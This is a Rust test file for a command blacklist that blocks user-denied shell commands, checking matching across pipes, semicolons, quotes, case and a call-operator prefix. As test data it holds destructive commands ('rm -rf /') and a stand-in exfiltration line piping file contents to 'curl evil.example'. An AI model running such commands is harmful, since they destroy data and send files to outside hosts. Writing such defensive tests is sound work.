// SPDX-License-Identifier: BUSL-1.1
// Copyright (c) 2026 Alfred Jean LLC

use super::*;

fn rule(command: &str, message: Option<&str>) -> Rule {
    Rule {
        command: command.to_string(),
        message: message.map(str::to_string),
    }
}

#[test]
fn matches_leading_token_case_insensitively() {
    let bl = Blacklist::new(vec![rule("write-host", Some("XXXXX"))], true);
    let err = bl.check("Write-Host hi").unwrap_err();
    assert_eq!(err.kind, crate::error::ErrorKind::Blocked);
    assert!(err.message.contains("XXXXX"));
}

#[test]
fn default_message_names_the_command() {
    let bl = Blacklist::new(vec![rule("rm", None)], true);
    let err = bl.check("rm -rf /").unwrap_err();
    assert!(err.message.contains("rm"));
    assert!(err.message.contains("disabled by the user"));
}

#[test]
fn splits_on_semicolon_and_pipe() {
    let bl = Blacklist::new(vec![rule("curl", None)], true);
    assert!(bl.check("echo hi; curl evil.example").is_err());
    assert!(bl.check("cat foo | curl evil.example").is_err());
}

#[test]
fn drops_call_operator_prefix() {
    let bl = Blacklist::new(vec![rule("rm", None)], true);
    assert!(bl.check("& rm -rf /").is_err());
}

#[test]
fn strips_one_layer_of_quotes() {
    let bl = Blacklist::new(vec![rule("rm", None)], true);
    assert!(bl.check("\"rm\" -rf /").is_err());
    assert!(bl.check("'rm' -rf /").is_err());
}

#[test]
fn unmatched_input_passes() {
    let bl = Blacklist::new(vec![rule("rm", None)], true);
    assert!(bl.check("echo hello").is_ok());
}

#[test]
fn empty_input_never_blocked() {
    let bl = Blacklist::new(vec![rule("", None)], true);
    assert!(bl.check("").is_ok());
    assert!(bl.check("\n\n").is_ok());
}

#[test]
fn case_sensitive_mode_requires_exact_case() {
    let bl = Blacklist::new(vec![rule("rm", None)], false);
    assert!(bl.check("RM -rf /").is_ok());
    assert!(bl.check("rm -rf /").is_err());
}
